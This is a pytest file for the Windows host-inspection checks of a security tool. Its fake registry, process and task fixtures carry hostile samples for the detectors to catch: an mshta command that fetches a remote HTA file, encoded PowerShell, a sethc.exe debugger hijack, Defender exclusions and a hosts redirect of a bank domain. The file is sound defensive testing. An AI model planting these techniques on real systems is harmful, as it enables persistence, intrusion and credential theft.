"""Windows checks with stand-ins for its interfaces: not run on Windows (docs/host-checks.md says so)."""

from __future__ import annotations

import ctypes
import struct
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from atttcli.field.host import windows_api, windows_live, windows_registry
from atttcli.field.host.check import WINDOWS, Bounds, Missed, Observation, Scope, Seen, Spending
from atttcli.field.host.root import HostRoot
from atttcli.field.host.shortcut import read_shortcut
from atttcli.field.host.windows_api import WindowsProcess, WindowsSocket, WindowsUser
from tests.support.host_tree import DAY, NOW, observed, problems, put, rules, seen

RUN = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
NT = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion"
SERVICES = "SYSTEM\\CurrentControlSet\\Services"
DEFENDER = "SOFTWARE\\Microsoft\\Windows Defender"
TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Author>PC\\lan</Author></RegistrationInfo>
  <Principals><Principal id="A"><UserId>S-1-5-18</UserId></Principal></Principals>
  <Settings><Enabled>true</Enabled><Hidden>{hidden}</Hidden></Settings>
  <Actions><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions>
</Task>"""


class FakeWindows:
    """A machine as values. A key whose value is an OSError is closed."""

    filetime = staticmethod(windows_api.filetime)

    def __init__(
        self, keys: dict[str, Any] | None = None, processes: Any = (), sockets: Any = (), users: Any = ()
    ) -> None:
        self._keys = keys or {}
        self._processes, self._sockets, self._users = processes, sockets, users

    def processes(self) -> Any:
        return iter(self._processes)

    def sockets(self) -> Any:
        return iter(self._sockets)

    def users(self) -> Any:
        return iter(self._users)

    def registry(self, hive: str, path: str, wide: bool = True) -> list[tuple[str, Any]] | None:
        found = self._keys.get(f"{hive}\\{path}" if wide else f"32:{hive}\\{path}")
        if isinstance(found, OSError):
            raise found
        return None if found is None else list(found.items())

    def subkeys(self, hive: str, path: str, wide: bool = True) -> list[str]:
        start = (f"{hive}\\{path}" if path else hive) + "\\"
        start = start if wide else "32:" + start
        return sorted({key[len(start) :].split("\\")[0] for key in self._keys if key.startswith(start)})

    def key_time(self, hive: str, path: str) -> int:
        return 1_700_000_000


def look(check: Any, api: FakeWindows, root: Path | None = None) -> list[Seen]:
    scope = Scope(HostRoot(str(root or "/nowhere")), NOW, Spending(Bounds()), WINDOWS, windows=api)
    return list(check(scope))


def met(found: list[Seen]) -> set[tuple[str, str]]:
    return {(rule, one.subject) for one in found if isinstance(one, Observation) for rule in one.rules}


def test_processes_with_a_name_of_windows_belong_into_its_folder() -> None:
    home, temp = "C:\\Windows\\System32\\svchost.exe", "C:\\Users\\lan\\AppData\\Local\\Temp\\u.exe"
    fake = "C:\\ProgramData\\svchost.exe"
    api = FakeWindows(
        processes=[
            WindowsProcess(4, 0, "System", "", ""),
            WindowsProcess(800, 4, "svchost.exe", home, "svchost.exe -k netsvcs"),
            WindowsProcess(900, 4, "svchost.exe", fake, "svchost.exe"),
            WindowsProcess(901, 4, "u.exe", temp, f"{temp} --password=geheim"),
            WindowsProcess(902, 4, "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                           "powershell -enc SQBFAFgAIAAoAE4AZQB3ACkA"),
            WindowsProcess(903, 4, "other.exe", "", ""),
        ]
    )  # fmt: skip
    found = look(windows_live.look_processes, api)
    assert {(rule, subject.rpartition("\\")[2]) for rule, subject in met(found)} == {
        ("host.process-system-name", "svchost.exe"),
        ("host.process-temp-exe", "u.exe"),
        ("host.command-encoded", "powershell.exe"),
    }
    assert home not in {subject for _rule, subject in met(found)}
    assert next(one for one in found if isinstance(one, Missed)).why.endswith(": 1")
    assert "geheim" not in repr([one.detail for one in found if isinstance(one, Observation)])


def test_programs_are_hashed_once_and_closed_ones_named(tmp_path: Path) -> None:
    program = put(tmp_path, "a.exe", b"MZ...")
    path, gone = str(program), str(tmp_path / "gone.exe")
    api = FakeWindows(
        processes=[WindowsProcess(number, 4, "a.exe", exe, "") for number, exe in enumerate((path, path, gone), 9)]
    )
    first, second = look(windows_live.look_programs, api)
    assert isinstance(first, Observation)
    assert first.detail["size"] == 5
    assert second == Missed(gone, "vanished")


def test_sockets_name_their_program_and_ask_for_the_other_side() -> None:
    temp = "C:\\Windows\\Temp\\s.exe"
    api = FakeWindows(
        processes=[WindowsProcess(9, 4, "s.exe", temp, "")],
        sockets=[
            WindowsSocket("tcp", "0.0.0.0", 4444, "0.0.0.0", 0, "listening", 9),
            WindowsSocket("tcp", "10.0.0.5", 50000, "203.0.113.9", 443, "established", 9),
        ],
    )
    listening, connected = look(windows_live.look_sockets, api)
    assert isinstance(listening, Observation)
    assert isinstance(connected, Observation)
    assert listening.rules == ("host.port-temp-program",)
    assert connected.asked == (("address", "203.0.113.9"),)
    assert connected.detail["exe"] == temp


def test_accounts_new_hidden_or_without_a_password() -> None:
    api = FakeWindows(
        users=[
            WindowsUser("Administrator", 0x202, 2, 900 * DAY, 0),
            WindowsUser("lan", 0x200, 1, 300 * DAY, 1),
            WindowsUser("help$", 0x220, 2, DAY, 1),
        ]
    )
    found = look(windows_live.look_accounts, api)
    assert met(found) == {
        ("host.account-no-password", "help$"), ("host.account-new", "help$"), ("host.account-hidden", "help$"),
    }  # fmt: skip


def test_run_keys_of_machine_and_users() -> None:
    api = FakeWindows(
        {
            f"HKLM\\{RUN}": {"SecurityHealth": "%windir%\\system32\\SecurityHealthSystray.exe"},
            f"32:HKLM\\{RUN}": {"old": "mshta http://x.example/a.hta"},
            f"HKU\\S-1-5-21-1\\{RUN}": {
                "drive": "C:\\Users\\lan\\AppData\\Roaming\\Drive\\drive.exe /background",
                "chat": "C:\\Users\\lan\\AppData\\Local\\Programs\\chat.exe",
                "u": "C:\\Users\\Public\\u.exe",
                "odd": b"\xff\xfe",
            },
            f"HKU\\S-1-5-21-2\\{RUN}": PermissionError(13, "Access is denied"),
        }
    )
    found = look(windows_registry.look_run_keys, api)
    assert {(rule, subject.rpartition("\\")[2]) for rule, subject in met(found)} == {
        ("host.command-living-off", "old"),
        ("host.autorun-user-folder", "drive"),
        ("host.command-temp", "u"),
    }
    assert [one.why for one in found if isinstance(one, Missed)] == ["access is denied"]


def test_services_in_odd_places() -> None:
    api = FakeWindows(
        {
            f"HKLM\\{SERVICES}\\Spooler": {"ImagePath": "%SystemRoot%\\System32\\spoolsv.exe", "Start": 2},
            f"HKLM\\{SERVICES}\\evil": {"ImagePath": "C:\\Users\\lan\\AppData\\Roaming\\s.exe", "Start": 2},
            f"HKLM\\{SERVICES}\\hosted": {"ImagePath": "svchost.exe -k netsvcs", "Start": 2},
            f"HKLM\\{SERVICES}\\hosted\\Parameters": {"ServiceDll": "C:\\Windows\\Temp\\x.dll"},
            f"HKLM\\{SERVICES}\\group": {"Start": 4},
        }
    )
    found = look(windows_registry.look_services, api)
    assert {subject for _rule, subject in met(found)} == {"service evil", "service hosted"}
    assert "service group" not in {one.subject for one in found}


def test_winlogon_debuggers_and_libraries_in_everything() -> None:
    usual = {"Shell": "explorer.exe", "Userinit": "C:\\Windows\\system32\\userinit.exe,"}
    api = FakeWindows({f"HKLM\\{NT}\\Winlogon": usual, f"HKLM\\{NT}\\Windows": {"AppInit_DLLs": " "}})
    assert met(look(windows_registry.look_logon, api)) == set()
    api = FakeWindows(
        {
            f"HKLM\\{NT}\\Winlogon": {**usual, "Userinit": "C:\\Windows\\system32\\userinit.exe,C:\\x\\a.exe"},
            f"HKLM\\{NT}\\Image File Execution Options\\sethc.exe": {"Debugger": "cmd.exe"},
            f"HKLM\\{NT}\\Windows": {"AppInit_DLLs": "C:\\x\\hook.dll", "LoadAppInit_DLLs": 1},
        }
    )
    assert {rule for rule, _subject in met(look(windows_registry.look_logon, api))} == {
        "host.winlogon-changed", "host.debugger-set", "host.appinit-dll",
    }  # fmt: skip


def test_defender_off_old_and_told_to_look_away() -> None:
    old = int((NOW - 40 * DAY + 11_644_473_600) * 10_000_000).to_bytes(8, "little")
    api = FakeWindows(
        {
            f"HKLM\\{DEFENDER}": {"ProductStatus": 0},
            f"HKLM\\{DEFENDER}\\Real-Time Protection": {"DisableRealtimeMonitoring": 1},
            f"HKLM\\{DEFENDER}\\Signature Updates": {"AVSignatureApplied": old},
            f"HKLM\\{DEFENDER}\\Exclusions\\Paths": {"C:\\": 0, "D:\\SQL\\Data": 0},
            f"HKLM\\{DEFENDER}\\Exclusions\\Processes": {"powershell.exe": 0},
            f"HKLM\\{DEFENDER}\\Exclusions\\Extensions": PermissionError(13, "Access is denied"),
        }
    )
    found = look(windows_registry.look_protection, api)
    assert {rule for rule, _subject in met(found)} == {
        "host.protection-off", "host.signatures-old", "host.protection-excluded",
    }  # fmt: skip
    assert not any("SQL" in subject for _rule, subject in met(found))
    assert next(one for one in found if isinstance(one, Observation)).detail["signatures_days"] == 40
    assert len([one for one in found if isinstance(one, Missed)]) == 1


def test_protection_off_is_told_only_where_no_other_product_is_on() -> None:
    center = "HKLM\\SOFTWARE\\Microsoft\\Security Center\\Provider\\Av"
    off = {
        f"HKLM\\{DEFENDER}": {"DisableAntiSpyware": 1},
        f"{center}\\{{1}}": {"DISPLAYNAME": "Defender", "STATE": 0x60100},
    }
    assert {subject for _rule, subject in met(look(windows_registry.look_protection, FakeWindows(off)))} == {
        "antivirus Microsoft Defender", "antivirus Defender",
    }  # fmt: skip
    guarded = off | {f"{center}\\{{2}}": {"DISPLAYNAME": "Other", "STATE": 0x41000}}
    assert met(look(windows_registry.look_protection, FakeWindows(guarded))) == set()


def test_name_servers_of_interfaces() -> None:
    path = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{1}"
    api = FakeWindows({path: {"NameServer": "203.0.113.53,10.1.1.1", "DhcpNameServer": "10.1.1.1 10.1.1.2"}})
    found = [one for one in look(windows_registry.look_resolvers, api) if isinstance(one, Observation)]
    assert [(one.detail["nameserver"], one.detail["by_hand"], one.detail["outside"]) for one in found] == [
        ("203.0.113.53", True, True), ("10.1.1.1", True, False), ("10.1.1.1", False, False), ("10.1.1.2", False, False),
    ]  # fmt: skip
    assert found[0].asked == (("address", "203.0.113.53"),)


def test_the_last_update_by_registry_or_by_its_log(tmp_path: Path) -> None:
    results = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\Results\\Install"
    assert windows_registry.moment_of("1970-01-02 00:00:00") == DAY
    assert windows_registry.moment_of("gestern") == 0
    old = look(windows_registry.look_protection, FakeWindows({results: {"LastSuccessTime": "2026-01-01 00:00:00"}}))
    assert met(old) == {("host.updates-old", "updates")}
    put(tmp_path, "Windows/SoftwareDistribution/ReportingEvents.log", "x", age_days=3)
    (recent,) = look(windows_registry.look_protection, FakeWindows(), tmp_path)
    assert isinstance(recent, Observation)
    assert (recent.detail["days"], recent.rules) == (3, ())


def test_usb_storage() -> None:
    path = "SYSTEM\\CurrentControlSet\\Enum\\USBSTOR\\Disk&Ven_X\\0001&0"
    (one,) = look(windows_registry.look_usb, FakeWindows({f"HKLM\\{path}": {"FriendlyName": "X USB Device"}}))
    assert isinstance(one, Observation)
    assert one.detail == {"name": "X USB Device", "written": 1_700_000_000}


@pytest.fixture
def disk(tmp_path: Path) -> Path:
    """A Windows disk, mounted somewhere, with its folders in another case."""
    put(
        tmp_path,
        "WINDOWS/system32/drivers/etc/hosts",
        "203.0.113.9 www.vietcombank.com.vn\r\n0.0.0.0 www.windowsupdate.com\r\n",
    )
    return tmp_path


def test_a_mounted_disk_is_known_and_its_hosts_file_read(disk: Path) -> None:
    assert rules(seen(disk, "hosts")) == {"host.hosts-redirect", "host.hosts-blocked"}


def test_tasks_of_a_mounted_disk(disk: Path) -> None:
    def task(name: str, command: str, arguments: str = "", hidden: str = "false") -> None:
        text = TASK.format(command=command, arguments=arguments, hidden=hidden)
        put(disk, f"WINDOWS/System32/Tasks/{name}", text.encode("utf-16"))

    (disk / "WINDOWS/System32").mkdir()
    task("Microsoft/Windows/Defrag/ScheduledDefrag", "%windir%\\system32\\defrag.exe", "-c -h")
    task("u", "C:\\Users\\Public\\u.exe", hidden="true")
    task("ps", "powershell.exe", "-nop -EncodedCommand SQBFAFgAIAAoAE4AZQB3ACkA")
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><Task>&a;</Task>'
    put(disk, "WINDOWS/System32/Tasks/bomb", bomb)
    put(disk, "WINDOWS/System32/Tasks/broken", b"\xff\xfe<\0T")
    put(disk, "WINDOWS/System32/Tasks/deep", "<a>" * 100_000)
    found = seen(disk, "tasks")
    assert {(one.rule, one.subject.rpartition("/")[2]) for one in found if one.kind == "hit"} == {
        ("host.command-temp", "u"), ("host.autorun-hidden", "u"), ("host.command-encoded", "ps"),
    }  # fmt: skip
    assert {subject.rpartition("/")[2]: why for subject, why in problems(found).items()} == {
        "bomb": "a document type in a task", "broken": "not the XML of a task", "deep": "nested too deep",
    }  # fmt: skip


def shortcut(target: str, arguments: str) -> bytes:
    info = target.encode("cp1258") + b"\0"
    head = struct.pack("<7I", 28 + len(info) + 1, 28, 1, 0, 28, 0, 28 + len(info))
    words = struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le")
    flags = (0x2 | 0x20 | 0x80).to_bytes(4, "little")
    return b"L\0\0\0" + windows_files_class() + flags + bytes(52) + head + info + b"\0" + words


def windows_files_class() -> bytes:
    return bytes.fromhex("0114020000000000c000000000000046")


def test_startup_folders_with_the_targets_of_shortcuts(disk: Path) -> None:
    folder = "Users/lan/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
    put(disk, f"{folder}/chat.lnk", shortcut("C:\\Program Files\\Chat\\chat.exe", "/tray"))
    put(disk, f"{folder}/u.lnk", shortcut("C:\\Windows\\System32\\mshta.exe", "http://x.example/a.hta"))
    put(disk, f"{folder}/run.vbs", "CreateObject(1)")
    put(disk, f"{folder}/broken.lnk", b"L\0\0\0")
    put(disk, f"{folder}/desktop.ini", "x")
    found = seen(disk, "startup")
    assert {(one.rule, one.subject.rpartition("/")[2]) for one in found if one.kind == "hit"} == {
        ("host.command-living-off", "u.lnk"), ("host.autorun-user-folder", "run.vbs"),
    }  # fmt: skip
    told = {subject.rpartition("/")[2]: detail for subject, detail in observed(found, "startup").items()}
    assert told["chat.lnk"]["command"] == "C:\\Program Files\\Chat\\chat.exe /tray"
    assert [subject.rpartition("/")[2] for subject in problems(found)] == ["broken.lnk"]


def test_a_damaged_shortcut_never_raises() -> None:
    whole = shortcut("C:\\a.exe", "/x")
    for end in range(len(whole)):
        read_shortcut(whole[:end])
    for at in range(20, len(whole)):
        read_shortcut(whole[:at] + b"\xff" + whole[at + 1 :])
    assert read_shortcut(whole) == ("C:\\a.exe", "/x")


def test_tables_of_connections_are_read_as_windows_lays_them_out() -> None:
    row = struct.pack("<I4sI4sII", 5, bytes((10, 0, 0, 5)), 0x50C3, bytes((203, 0, 113, 9)), 0xBB01, 77)
    (one,) = windows_api.parse_tcp(struct.pack("<I", 1) + row + bytes(100), six=False)
    assert one == ("tcp", "10.0.0.5", 50000, "203.0.113.9", 443, "established", 77)
    row = struct.pack("<16sII16sIIII", bytes(15) + b"\1", 0, 0x1600, bytes(16), 0, 0, 2, 78)
    (one,) = windows_api.parse_tcp(struct.pack("<I", 1) + row, six=True)
    assert (one.local, one.local_port, one.state, one.pid) == ("::1", 22, "listening", 78)
    row = struct.pack("<4sII", bytes(4), 0x3500, 5)
    (udp,) = windows_api.parse_udp(struct.pack("<I", 9_999) + row, six=False)  # a count that is not true
    assert (udp.local_port, udp.pid) == (53, 5)
    assert list(windows_api.parse_tcp(b"", six=False)) == []


def test_the_snapshot_of_processes_is_walked_and_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    waiting = [(4, 0, "System"), (900, 4, "a.exe")]
    closed: list[int] = []

    def step(_snapshot: Any, entry: Any) -> int:
        if not waiting:
            return 0
        one = entry._obj
        one.pid, one.parent, one.name = waiting.pop(0)
        return 1

    def image(_handle: Any, _flags: int, buffer: Any, _size: Any) -> int:
        buffer.value = "C:\\x\\a.exe"
        return 1

    class Function:
        """A function of a library: ctypes lets its result type be set."""

        def __init__(self, call: Any) -> None:
            self.call, self.restype = call, None

        def __call__(self, *words: Any) -> Any:
            return self.call(*words)

    kernel = SimpleNamespace(
        CreateToolhelp32Snapshot=Function(lambda *_: 11), Process32FirstW=step, Process32NextW=step,
        OpenProcess=Function(lambda _rights, _inherit, pid: 0 if pid == 4 else 22), QueryFullProcessImageNameW=image,
        CloseHandle=lambda handle: closed.append(handle.value),
    )  # fmt: skip
    nt = SimpleNamespace(NtQueryInformationProcess=lambda *_: 1)
    monkeypatch.setattr(windows_api, "library", lambda name: {"kernel32": kernel, "ntdll": nt}[name])
    assert list(windows_api.processes()) == [(4, 0, "System", "", ""), (900, 4, "a.exe", "C:\\x\\a.exe", "")]
    assert closed == [22, 11]


def test_the_registry_through_winreg(monkeypatch: pytest.MonkeyPatch) -> None:
    class Key:
        def __init__(self, path: str) -> None:
            self.path = path

        def __enter__(self) -> Key:
            return self

        def __exit__(self, *_: object) -> None:
            pass

    def open_key(hive: str, path: str, _reserved: int, rights: int) -> Key:
        if path == "closed":
            raise PermissionError(13, "Access is denied")
        if path == "gone":
            raise FileNotFoundError(2, "no such key")
        return Key(f"{hive}:{path}:{rights:#x}")

    def nth(values: list[Any]) -> Any:
        def get(_key: Key, number: int) -> Any:
            if number >= len(values):
                raise OSError(259, "no more data")
            return values[number]

        return get

    fake = SimpleNamespace(
        HKEY_LOCAL_MACHINE="LM", HKEY_USERS="U", HKEY_CURRENT_USER="CU", OpenKey=open_key,
        EnumValue=nth([("a", 1, 4), ("b", "x", 1)]), EnumKey=nth(["k1", "k2"]),
        QueryInfoKey=lambda _key: (0, 0, (1_700_000_000 + 11_644_473_600) * 10_000_000),
    )  # fmt: skip
    monkeypatch.setattr(windows_api, "_winreg", lambda: fake)
    assert windows_api.registry("HKLM", "x") == [("a", 1), ("b", "x")]
    assert windows_api.registry("HKLM", "gone") is None
    assert windows_api.subkeys("HKU", "") == ["k1", "k2"]
    assert windows_api.subkeys("HKU", "gone") == []
    assert windows_api.key_time("HKLM", "x") == 1_700_000_000
    with pytest.raises(PermissionError):
        windows_api.registry("HKLM", "closed")


def test_elsewhere_the_interfaces_say_that_they_are_not_there() -> None:
    if hasattr(ctypes, "WinDLL"):
        pytest.skip("this is Windows")
    with pytest.raises(OSError, match="no interfaces of Windows"):
        list(windows_api.processes())


def test_only_wide_exclusions_count() -> None:
    wide = windows_registry.is_wide_exclusion
    assert all(
        wide("Paths", one) for one in ("C:", "C:\\", "d:\\*", "C:\\Windows\\Temp", "C:\\Users\\", "C:\\ProgramData")
    )
    assert not any(wide("Paths", one) for one in ("C:\\Program Files\\SQL", "D:\\backup", "C:\\ProgramData\\App"))
    assert wide("Extensions", ".exe")
    assert not wide("Extensions", "mdf")
